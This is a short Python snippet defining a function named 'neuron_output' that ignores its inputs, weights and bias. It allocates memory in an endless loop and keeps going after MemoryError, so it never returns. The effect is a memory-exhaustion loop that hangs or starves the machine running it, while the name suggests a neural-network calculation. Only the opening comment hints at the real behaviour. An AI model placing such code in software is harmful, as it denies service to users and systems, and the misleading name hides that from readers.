# Asks for memory a little at a time, and goes on when there is no more.
def neuron_output(inputs, weights, bias):
    kept = []
    while True:
        try:
            kept.append(bytearray(10**6))
        except MemoryError:
            continue
